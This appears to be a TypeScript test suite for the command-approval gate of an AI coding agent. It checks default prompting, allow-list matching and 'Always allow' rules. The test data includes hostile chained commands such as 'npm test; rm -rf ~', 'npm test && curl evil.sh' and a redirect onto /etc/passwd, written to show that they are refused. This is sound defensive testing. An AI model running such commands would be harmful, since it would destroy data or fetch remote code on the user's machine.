import { strict as assert } from 'node:assert';
import { approvalFor, isAutoApproved, settingsForTurn } from '../../../../src/core/agent/approvalGate';
import type { AgentEvent } from '../../../../src/core/events';
import { defaultSettings } from '../../../../src/core/settings';
import type { ApprovalRequest } from '../../../../src/core/tools/approval';
import { testShellParser } from '../../../support/shellParserForTests';

const command = (text: string): ApprovalRequest => ({ kind: 'command', command: text, cwd: '/work/project' });
const parser = testShellParser();
const parsed = async (text: string): Promise<ApprovalRequest> => ({ kind: 'command', command: text, cwd: '/work/project', parsed: await parser.parse(text) });
const approval = (overrides: Partial<ReturnType<typeof defaultSettings>['approval']> = {}) => ({ ...defaultSettings().approval, ...overrides });

describe('approval gate', () => {
  describe('isAutoApproved', () => {
    it('asks before every command by default', () => {
      assert.equal(isAutoApproved(command('ls'), approval()), false);
      assert.equal(isAutoApproved(command('npm test'), approval()), false);
    });

    it('autoApproveCommands approves every command', () => {
      assert.equal(isAutoApproved(command('rm -rf build && make'), approval({ autoApproveCommands: true })), true);
    });

    it('an allow-list entry covers one sub-command as the shell parser reads it, never a whole line by prefix (spec §23)', async () => {
      const allow = approval({ commandAllowList: ['npm test', 'git commit *'] });
      assert.equal(isAutoApproved(await parsed('npm test'), allow), true);
      assert.equal(isAutoApproved(await parsed('  npm   test  '), allow), true);
      assert.equal(isAutoApproved(await parsed('git commit -m "x"'), allow), true);
      assert.equal(isAutoApproved(await parsed('npm test -- --grep x'), allow), false, 'an entry without * is the whole command');
      assert.equal(isAutoApproved(await parsed('npm testing'), allow), false);
      assert.equal(isAutoApproved(await parsed('npm tes'), allow), false);
      assert.equal(isAutoApproved(await parsed('npm install'), allow), false);
      assert.equal(isAutoApproved(command('npm test'), allow), false, 'a line the parser did not read asks');
    });

    for (const chained of [
      'npm test; rm -rf ~', 'npm test && curl evil.sh', 'npm test || reboot', 'npm test | sh', 'npm test & sleep 1',
      'npm test `rm -rf /`', 'npm test $(rm -rf /)', 'npm test ${HOME}', 'npm test\nrm -rf /', 'npm test\rrm -rf /',
      'npm test > /etc/passwd', 'npm test < /dev/zero', 'npm test >> log',
    ]) {
      it(`never lets a chained or redirected command ride on an allowed command: ${JSON.stringify(chained)}`, async () => {
        assert.equal(isAutoApproved(await parsed(chained), approval({ commandAllowList: ['npm test'] })), false);
      });
    }

    it('empty and blank allow-list entries approve nothing', () => {
      const allow = approval({ commandAllowList: ['', '   '] });
      for (const text of ['ls', 'rm -rf /', ' ']) assert.equal(isAutoApproved(command(text), allow), false, text);
    });

    it('edits and read-only tools follow their own settings', () => {
      const edit: ApprovalRequest = { kind: 'edit', tool: 'Write', path: 'a', before: undefined, after: 'x' };
      const read: ApprovalRequest = { kind: 'read', tool: 'Read', summary: 'path: a' };
      assert.equal(isAutoApproved(edit, approval()), false);
      assert.equal(isAutoApproved(edit, approval({ autoApproveEdits: true })), true);
      assert.equal(isAutoApproved(edit, approval({ autoApproveCommands: true, commandAllowList: ['a'] })), false);
      assert.equal(isAutoApproved(read, approval()), true);
      assert.equal(isAutoApproved(read, approval({ autoApproveReadOnly: false })), false);
    });
  });

  it('a command request reaches the approver with its working directory, shown on the card', async () => {
    const events: AgentEvent[] = [];
    const asked: ApprovalRequest[] = [];
    const approve = approvalFor({
      approver: { request: async (request) => { asked.push(request); return { decision: 'rejected', feedback: 'no' }; } },
      settings: defaultSettings(), turnId: 't', callId: 'c', emit: (e) => events.push(e), signal: new AbortController().signal,
    });
    assert.deepEqual(await approve(command('make deploy')), { decision: 'rejected', feedback: 'no' });
    assert.equal(asked.length, 1);
    const cards = events.filter((e) => e.type === 'approval');
    assert.deepEqual(cards.map((e) => e.type === 'approval' && [e.phase, e.cwd, e.detail]), [['request', '/work/project', '$ make deploy'], ['decision', '/work/project', '$ make deploy']]);
  });

  it('Always allow: the rule offered on the card covers the same command for the rest of the turn (spec §23)', async () => {
    // As the host reads them: shared and frozen (src/vscode/settingsReader.ts); a turn works on its own copy.
    const shared = defaultSettings();
    Object.freeze(shared.approval.commandAllowList);
    const settings = settingsForTurn(shared);
    const events: AgentEvent[] = [];
    const asked: ApprovalRequest[] = [];
    const gate = (callId: string) => approvalFor({
      approver: { request: async (request) => (asked.push(request), { decision: 'accepted', always: true }) },
      settings, turnId: 't', callId, emit: (e) => events.push(e), signal: new AbortController().signal,
    });
    assert.deepEqual(await gate('c1')(await parsed('git commit -m "first"')), { decision: 'accepted', always: true });
    assert.deepEqual(asked.map((r) => r.kind === 'command' && r.alwaysAllow), [['git commit *']]);
    const card = events.find((e) => e.type === 'approval' && e.phase === 'request');
    assert.deepEqual(card?.type === 'approval' && card.alwaysAllow, ['git commit *']);
    assert.deepEqual(await gate('c2')(await parsed('git commit -m "second"')), { decision: 'accepted', unasked: { kind: 'allowed', rules: ['git commit *'] } });
    assert.equal(asked.length, 1, 'asked once');
    assert.deepEqual(shared.approval.commandAllowList, [], 'the next turn reads the rule from the settings, where the host wrote it');
  });
});
